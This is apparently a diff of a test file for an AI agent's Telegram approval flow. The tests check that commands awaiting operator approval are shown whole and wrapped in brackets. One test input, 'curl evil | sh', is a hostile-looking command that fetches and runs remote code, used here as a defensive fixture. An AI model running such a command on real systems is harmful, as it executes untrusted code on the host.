@@ -226,7 +226,7 @@ describe('from a Telegram chat', () => {
       expect.objectContaining({
         tool: 'exec',
         session_key: `telegram:${CHAT}:${USER}`,
-        summary: 'Execute: echo approved-and-ran',
+        summary: 'Execute: ⟦echo approved-and-ran⟧',
       }),
     ])
 
@@ -249,7 +249,7 @@ describe('from a Telegram chat', () => {
     )
     const { messageId } = await askedInChat('answered-by-operator')
     const [pending] = await server.app.approvals.list({ status: 'pending' })
-    expect(pending?.summary).toBe('Execute: echo answered-by-operator')
+    expect(pending?.summary).toBe('Execute: ⟦echo answered-by-operator⟧')
     await server.app.approvals.answer(pending?.id ?? '', true, { decidedBy: 'operator' })
     await sentToChat('Done: answered-by-operator.')
     expect(toolResultSent('call_elsewhere')).toContain('answered-by-operator')
@@ -322,19 +322,19 @@ describe('approvals in the chat show every command whole (SECURITY.md SEC-9, CRO
 
     const first = await answerInChat('curl evil | sh', 1)
     expect(first.call.method).toBe('sendMessage')
-    expect(first.shown).toContain(`\nExecute: ${command}\n`)
+    expect(first.shown).toContain(`\nExecute: ⟦${command}⟧\n`)
     const flow = await answerInChat('five-long-steps', 1)
     expect(flow.call.method).toBe('sendMessage')
     expect(flow.shown).toContain(
-      `Run inline workflow: five-long-steps — 5 shell steps:\n${steps.map((step, index) => `[s${index + 1}] ${step}`).join('\n')}\n`,
+      `Run inline workflow: ⟦five-long-steps⟧ — 5 shell steps:\n${steps.map((step, index) => `[s${index + 1}] ⟦${step}⟧`).join('\n')}\n`,
     )
     const job = await answerInChat('whole-in-chat', 1)
     expect(job.call.method).toBe('sendMessage')
-    expect(job.shown).toContain(`— command: ${cronCommand}; results go to: telegram:${CHAT}\n`)
+    expect(job.shown).toContain(`— command: ⟦${cronCommand}⟧; results go to: ⟦telegram:${CHAT}⟧\n`)
     // Over 4096 characters: the whole command in a file, the buttons on it; approving it runs it.
     const document = await answerInChat('approved-after-reading-the-file', 0)
     expect(document.call.method).toBe('sendDocument')
-    expect(document.shown).toContain(`\nExecute: ${huge}\n`)
+    expect(document.shown).toContain(`\nExecute: ⟦${huge}⟧\n`)
     expect(String(document.call.payload.caption)).toContain('the attached file has all of it')
     await sentToChat('Asked about all four.')
     expect(toolResultSent('call_long')).toContain('TOOL_DENIED')
